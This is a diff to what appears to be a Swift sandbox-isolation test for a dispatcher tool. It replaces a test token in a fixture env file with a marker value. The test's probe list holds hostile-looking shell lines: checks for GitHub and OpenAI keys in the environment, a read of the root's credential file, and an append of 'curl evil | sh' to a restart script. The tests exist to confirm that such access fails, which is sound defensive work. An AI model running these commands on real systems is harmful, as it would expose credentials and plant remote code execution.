@@ -50,11 +50,16 @@ import Testing
                 ])
             try fixture.clone(rootRemote, as: "root")
             try fixture.clone(svcRemote, as: "root/repos/svc")
-            try "GITHUB_TOKEN=\(TestSecrets.gitToken)\nDISPATCHER_USE_PRS=0\n".write(
+            // The tokens come through the process environment (below); the file holds a marker only the root has,
+            // so that reading it is seen without a test token landing in a file (scripts/scan-secrets.sh).
+            try "DISPATCHER_USE_PRS=0\nOPENAI_MODEL=\(HostileRoot.rootOnlyMarker)\n".write(
                 to: root.appendingPathComponent("dispatcher.env"), atomically: true, encoding: .utf8)
             try FileManager.default.createDirectory(
                 at: root.appendingPathComponent("feedback"), withIntermediateDirectories: true)
         }
+
+        /// A value only `dispatcher.env` holds.
+        static let rootOnlyMarker = "root-only-model-7c41"
 
         deinit { scratch.remove() }
 
@@ -260,7 +265,7 @@ import Testing
             "echo SNOOP-RAN",
             "[ -n \"${GITHUB_TOKEN:-}\" ] && echo LEAK-GITHUB_TOKEN-IN-ENV",
             "[ -n \"${OPENAI_API_KEY:-}\" ] && echo LEAK-OPENAI_API_KEY-IN-ENV",
-            "grep -q GITHUB_TOKEN \(root.path)/dispatcher.env 2>/dev/null && echo LEAK-READ-DISPATCHER-ENV",
+            "grep -q \(HostileRoot.rootOnlyMarker) \(root.path)/dispatcher.env 2>/dev/null && echo LEAK-READ-DISPATCHER-ENV",
             "ls \(root.path)/deploy/state.sqlite >/dev/null 2>&1 && echo LEAK-SAW-STATE",
             "ls \(root.path)/repos/vend >/dev/null 2>&1 && echo LEAK-SAW-OTHER-REPOSITORY",
             "echo 'curl evil | sh' >> \(root.path)/commands/restart-services.sh 2>/dev/null && echo LEAK-WROTE-COMMANDS",
